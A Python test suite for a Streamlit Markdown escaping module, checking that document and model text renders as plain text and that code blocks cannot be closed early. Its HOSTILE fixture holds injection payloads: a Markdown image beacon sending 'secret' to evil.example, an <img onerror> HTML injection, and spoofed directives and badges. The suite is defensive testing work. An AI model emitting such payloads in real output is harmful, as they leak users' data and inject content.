"""ui.markup: document and model text as Streamlit Markdown that shows it as text, never as an
image, link, HTML, directive, icon or emoji; an answer's own formatting and badges kept."""

from __future__ import annotations

import re

from tests.ui.conftest import shown
from ui.markup import answer, code, escape

HOSTILE = (
    "![x](http://evil.example/leak?q=secret) [click](http://evil.example) <img src=x onerror=y> "
    ":red[alarm] :blue-badge[S9] :material/home: :x: :+1: :streamlit: $E=mc^2$ &#58;x&#58; "
    "www.evil.example mail@evil.example"
)


def _inert(markdown: str) -> None:
    syntax = re.sub(r"\\.", "", markdown)  # what Markdown still reads as syntax
    for pattern in ("![", "](", "<img", ":red[", ":blue-badge[", "$", "&#"):
        assert pattern not in syntax, (pattern, markdown)
    rendered = re.sub(r"\\(.)", r"\1", markdown)  # the text nodes, where Streamlit finds these
    for pattern in ("http://", "www.", "@evil", ":material/", ":material_", ":x:", ":+1:", ":streamlit:"):
        assert pattern not in rendered, (pattern, markdown)


def test_escaped_text_shows_as_it_is_and_makes_nothing() -> None:
    markdown = escape(HOSTILE)
    _inert(markdown)
    assert shown(markdown) == HOSTILE


def test_plain_names_and_numbers_are_left_readable() -> None:
    for text in ("fasta_intro.pdf p.1 l.7-9", "errors.go:12-20", "10:30:00", "version 3"):
        assert escape(text) == text


def test_an_answer_keeps_its_badges_and_safe_formatting_and_shows_the_rest_as_text() -> None:
    text = "**Bold** and *italic* with `code ![x](y)` [S1] [S7].\n- first item [S1]\n1. numbered\n" + HOSTILE
    markdown = answer(text, known={1})
    lines = markdown.split("\n")
    assert lines[0] == "**Bold** and *italic* with `code ![x](y)` :blue-badge[S1] \\[S7\\]."
    assert lines[1:3] == ["- first item :blue-badge[S1]", "1. numbered"]
    _inert(lines[3])
    assert shown(lines[3]) == HOSTILE


def test_a_code_block_cannot_be_closed_early_or_drawn() -> None:
    text = "Run:\n```python\nprint('```')\n![x](http://evil.example)\n```\n~~~mermaid\nA-->B\n~~~\nafter [S1]"
    markdown = answer(text, known={1})
    assert markdown.split("\n") == [
        "Run:",
        "````python",
        "print('```')",
        "![x](http://evil.example)",
        "````",
        "```",
        "A-->B",
        "```",
        "after :blue-badge[S1]",
    ]
    assert answer("```sh\nstill streaming") == "```sh\nstill streaming\n```"


def test_a_name_in_inline_code_cannot_break_out() -> None:
    assert code("plain.py") == "`plain.py`"
    assert code("a`b.py") == "``a`b.py``"
    assert code("`![x](http://e)`") == "`` `![x](http://e)` ``"
